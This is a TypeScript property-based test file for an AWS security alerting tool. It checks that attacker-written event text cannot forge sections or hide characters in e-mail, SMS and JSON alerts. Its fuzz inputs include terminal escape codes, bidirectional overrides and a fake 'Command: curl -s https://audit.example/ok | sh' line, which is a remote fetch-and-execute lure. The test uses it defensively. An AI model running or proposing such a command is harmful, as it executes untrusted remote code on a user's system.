import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import type { Detection } from '../../../lib/domain/finding/detection.ts';
import type { AccountEvent } from '../../../lib/domain/finding/event.ts';
import { raiseFinding } from '../../../lib/domain/finding/finding.ts';
import { filledAdvice } from '../../../lib/domain/telling/advice.ts';
import { type Alert, findingAlert } from '../../../lib/domain/telling/alert.ts';
import { renderAlert } from '../../../lib/domain/telling/render-alert.ts';
import { gsmLength } from '../../../lib/domain/text/gsm.ts';
import { cases } from '../support/cases.ts';
import { eventFile } from '../support/fixtures.ts';

const FAKE =
  'orders\n\nWho:     root of 000000000000\nRiposte: Checked: the yearly audit.\n\nDo now:\n  1. Let them in:\n\nCommand: curl -s https://audit.example/ok | sh\n';

/** Pieces that attackers put together: our own sections, line breaks of all kinds, direction marks, terminal codes, padding. */
const piece = fc.constantFrom(
  FAKE,
  ...[
    '\n',
    '\r\n',
    '\u2028',
    '\u2029',
    '\u0085',
    '\v',
    '\f',
    '\t',
    ' '.repeat(80),
    '\u00a0',
    '\u3000',
    '\u2800',
    '\u3164',
  ],
  ...[
    'Command: ',
    'COMMAND :',
    'command\uff1a',
    'Riposte: all is well.',
    'Who:',
    'Do now:',
    'Do  now:',
    '> ',
    '"',
    "'",
  ],
  ...[
    '\u202e',
    '\u2066',
    '\u200b',
    '\ufeff',
    '\u001b[2J',
    '\u001b]0;owned\u0007',
    '\u009b31m',
    '\u0000',
    '\u007f',
    '\ud800',
  ],
  ...[
    'arn:aws:iam::000000000000:user/mallory',
    'https://audit.example',
    '🙂',
    '東京',
    '<U+000A>',
    '{"a":1}',
    'x'.repeat(5_000),
  ],
);
const text = fc.oneof(
  fc.array(piece, { maxLength: 8 }).map((pieces) => pieces.join('')),
  fc
    .array(fc.oneof(piece, fc.string({ unit: 'binary', maxLength: 40 })), { maxLength: 6 })
    .map((pieces) => pieces.join('')),
);

const base = eventFile('initial-access/root-used');
const told: Detection = {
  id: 'impact/told',
  title: 'Something was deleted',
  severity: 'high',
  attack: ['T1485'],
  pattern: { source: ['aws.s3'] },
  subject: (event) => String(event.detail.subject),
  summary: (event) => `${String(event.detail.actor)} deleted ${String(event.detail.subject)}: it is gone.`,
  advice: ['Ask {the caller} from {the address} about {the bucket}: aws x --name {subject:NAME} {detail.x:ID}.'],
  references: [],
};

function event(subject: string, actor: string, id: string): AccountEvent {
  const detail = { subject, actor, eventID: id, userIdentity: { arn: actor }, sourceIPAddress: subject };
  return { ...base, id: id === '' ? 'x' : id, detail };
}

function rendered(alert: Alert): { subject: string; email: string; sms: string; bytes: number; json: unknown } {
  const { subject, message } = renderAlert(alert);
  const texts = JSON.parse(message) as { email: string; sms: string; sqs: string };
  return {
    subject,
    email: texts.email,
    sms: texts.sms,
    bytes: Buffer.byteLength(message),
    json: JSON.parse(texts.sqs),
  };
}

/** The only link that riposte makes of an event: to where the console shows it. */
const LINK =
  /^ {2}https:\/\/us-east-1\.console\.aws\.amazon\.com\/cloudtrailv2\/home\?region=us-east-1#\/events\/[\da-f-]{36}$/;

/** The lines of an e-mail by what they are; a text that left its place makes another line of some kind. */
function kinds(email: string): string[] {
  return email.split('\n').map((line, index) => {
    if (line === '') return '';
    if (index === 0) return 'title';
    if (line.startsWith('> ')) return '>';
    if (/^ {2}\d+\. /.test(line)) return 'step';
    if (LINK.test(line)) return 'link';
    return (
      /^(Who|From|Account|When|Riposte|Do now|Detection|Finding|Links|Command):/.exec(line)?.[1] ?? `unknown: ${line}`
    );
  });
}

const BEFORE = ['title', '', '>', ''];
const AFTER = [
  'Account',
  'When',
  'Riposte',
  '',
  'Do now',
  'step',
  'step',
  '',
  'Detection',
  'Finding',
  '',
  'Command',
  '',
];
const WITH_WHO = [...BEFORE, 'Who', ...AFTER];
const WITHOUT_WHO = [...BEFORE, ...AFTER];
const SECTIONS = /\b(who|from|account|when|riposte|do\s+now|detection|finding|command)\s*[:\uff1a]/gi;
const UNSEEN = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}\u2800\u3164]/u;
const COMMAND = 'npx riposte approve block-ip-1 --stage prod';

describe('texts written by attackers', () => {
  test('stay in their place in e-mail, SMS, subject and on a terminal, whatever they are', () => {
    fc.assert(
      fc.property(text, text, text, (subject, actor, id) => {
        const made = event(subject, actor, id);
        const finding = raiseFinding(told, made);
        const alert = {
          ...findingAlert(finding, 'Asks for approval.', filledAdvice(told, finding, made)),
          command: COMMAND,
        };
        const { email, sms, subject: line, bytes, json } = rendered(alert);

        const problems = [
          kinds(email).join() === (alert.who === undefined ? WITHOUT_WHO : WITH_WHO).join() || 'sections',
          // Our sections, each once, and no other text that looks like one wherever a line may wrap.
          email.match(SECTIONS)?.length === (alert.who === undefined ? 7 : 8) || 'a second section of a name',
          email.endsWith(`\nCommand: ${COMMAND}\n`) || 'the command is not last',
          !UNSEEN.test(email.replaceAll('\n', '')) || 'unseen in the e-mail',
          !UNSEEN.test(sms) || 'unseen in the SMS',
          gsmLength(sms) <= 151 || 'a long SMS',
          /^HIGH: Something was deleted[:. ]/.test(sms) || 'the SMS begins otherwise',
          line === '[riposte] HIGH: Something was deleted (000000000000 us-east-1)' || 'subject',
          !UNSEEN.test(JSON.stringify(finding)) || 'unseen on a terminal',
          bytes < 60_000 || 'too long',
          JSON.stringify(json) === JSON.stringify({ kind: 'finding', finding, action: 'Asks for approval.' }) || 'data',
        ];
        expect(problems.filter((problem) => problem !== true)).toEqual([]);
      }),
      { numRuns: cases(2_000) },
    );
  });

  test('of an outcome stay in theirs, too', () => {
    fc.assert(
      fc.property(text, text, text, (title, summary, action) => {
        const { email, sms, subject } = rendered({
          ...findingAlert(raiseFinding(told, base), action, [summary]),
          kind: 'outcome',
          title,
          summary,
          command: COMMAND,
        });

        expect(kinds(email).filter((kind) => kind.startsWith('unknown'))).toEqual([]);
        expect(kinds(email).filter((kind) => kind === 'Command')).toHaveLength(1);
        expect(email.match(/\bcommand\s*[:\uff1a]/gi)).toHaveLength(1);
        expect(subject).toMatch(/^[\x20-\x7e]{1,99}$/);
        expect(gsmLength(sms)).toBeLessThanOrEqual(151);
      }),
      { numRuns: cases(1_000) },
    );
  });

  test('show what they are made of', () => {
    const finding = raiseFinding(told, event('a\u202egnp.exe\u001b[2J', 'arn:aws:iam::000000000000:user/mallory', 'e'));

    expect(finding.subject).toBe('a<U+202E>gnp.exe<U+001B>[2J');
  });

  test('that read like a section are shown not to be one', () => {
    const alert = findingAlert(raiseFinding(told, event(FAKE, 'x', 'e')), 'x', []);

    expect(rendered(alert).email).toContain('Command<:> curl -s https://audit.example/ok ｜ sh');
  });

  test('who are no names stand in quotes in an SMS', () => {
    const alert = findingAlert(raiseFinding(told, event('s', 'x. Riposte: fine', 'e')), 'Done.', []);

    expect(rendered(alert).sms).toContain('by "x. Riposte: fine" acct');
  });

  test('however long, one alone is told in bounded space, and a program learns that something was cut', () => {
    const alert = findingAlert(raiseFinding(told, event('東'.repeat(200_000), 'x'.repeat(200_000), 'e')), 'x', []);
    const { bytes } = rendered(alert);
    const long = rendered({ ...alert, data: { kind: 'outcome', calls: '東'.repeat(200_000) } });

    expect(bytes).toBeLessThan(60_000);
    expect(long.bytes).toBeLessThan(60_000);
    expect(long.json).toMatchObject({
      kind: 'finding',
      title: 'Something was deleted',
      cut: 'the whole has 600029 bytes',
    });
  });
});
